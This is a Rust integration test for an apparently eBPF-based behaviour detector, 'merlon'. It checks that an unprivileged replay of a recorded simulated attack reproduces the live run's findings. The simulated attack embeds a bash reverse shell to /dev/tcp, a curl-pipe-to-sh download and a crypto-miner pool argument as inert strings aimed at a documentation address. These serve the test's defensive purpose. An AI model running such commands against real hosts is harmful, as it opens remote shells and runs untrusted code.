//! The live run and the replay: the same attack, the same findings, and root only for the first.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "the functions around the tests are tests too"
)]

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::{self, BufRead, BufReader};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::process::{Child, Command, Stdio};
use std::thread;

use serde_json::Value;

const MERLON: &str = env!("CARGO_BIN_EXE_merlon");
/// An unprivileged user of every system.
const NOBODY: u32 = 65534;

/// Why the test cannot run here.
fn refusal() -> Option<String> {
    let output = Command::new(MERLON)
        .args(["probe", "--format", "json"])
        .output()
        .ok()?;
    let probe: Value = serde_json::from_slice(&output.stdout).ok()?;
    let tracepoints = &probe["tp_btf"];
    if tracepoints["available"] == true {
        None
    } else {
        Some(tracepoints["why"].to_string())
    }
}

fn attack(directory: &std::path::Path) {
    let dropped = directory.join("dropped");
    fs::copy("/bin/true", &dropped).unwrap();
    fs::set_permissions(&dropped, fs::Permissions::from_mode(0o755)).unwrap();
    for (program, arguments) in [
        (
            "/bin/sh",
            vec!["-c", "true # bash -i >& /dev/tcp/192.0.2.1/9 0>&1"],
        ),
        ("/bin/sh", vec!["-c", "true # curl http://192.0.2.1/x | sh"]),
        (
            dropped.to_str().unwrap(),
            vec!["-o", "stratum+tcp://192.0.2.1:3333"],
        ),
    ] {
        assert!(
            Command::new(program)
                .args(arguments)
                .status()
                .unwrap()
                .success()
        );
    }
}

/// Waits until an observer says that it watches.
fn wait_until_watching(child: &mut Child) {
    let mut told = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    while told.read_line(&mut line).unwrap() > 0 && !line.contains("watching") {
        line.clear();
    }
    assert!(line.contains("watching"), "{line}");
    // Whoever closes the pipe would end the observer at its next word.
    thread::spawn(move || io::copy(&mut told, &mut io::sink()));
}

/// What does not differ between two observers of one attack: the time at which each saw an execution, and so
/// the id made from it, does.
fn essence(lines: &str) -> BTreeSet<(String, String, String)> {
    lines
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap())
        .filter(|finding| finding["subject"]["argv"].to_string().contains("192.0.2.1"))
        .map(|finding| {
            let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
            (
                text(&finding["rule"]),
                finding["subject"]["pid"].to_string(),
                text(&finding["fingerprint"]),
            )
        })
        .collect()
}

#[test]
fn a_replay_without_root_finds_what_the_live_run_found() {
    if let Some(reason) = refusal() {
        println!("skipped: the kernel or the user does not allow the sensor: {reason}");
        return;
    }
    let directory = tempfile::tempdir().unwrap();
    let root = directory.path();
    fs::set_permissions(root, fs::Permissions::from_mode(0o777)).unwrap();
    let recording = root.join("attack.jsonl");
    let mut record = Command::new(MERLON)
        .args(["record", "--duration", "5", "--output"])
        .arg(&recording)
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let live = root.join("live.jsonl");
    let mut run = Command::new(MERLON)
        .args([
            "run",
            "--ruleset",
            "behaviour",
            "--format",
            "jsonl",
            "--duration",
            "5",
        ])
        .stdout(File::create(&live).unwrap())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_until_watching(&mut record);
    wait_until_watching(&mut run);
    attack(root);
    record.wait().unwrap();
    run.wait().unwrap();
    fs::set_permissions(&recording, fs::Permissions::from_mode(0o644)).unwrap();

    let replay = Command::new(MERLON)
        .args(["replay", "--ruleset", "behaviour", "--format", "jsonl"])
        .arg(&recording)
        .env("MERLON_CACHE_DIR", root.join("cache"))
        .current_dir(root)
        .uid(NOBODY)
        .output()
        .unwrap();
    let live = essence(&fs::read_to_string(&live).unwrap());
    let replayed = essence(&String::from_utf8_lossy(&replay.stdout));
    assert!(live.len() >= 3, "{live:?}");
    assert_eq!(
        live,
        replayed,
        "{}",
        String::from_utf8_lossy(&replay.stderr)
    );
}
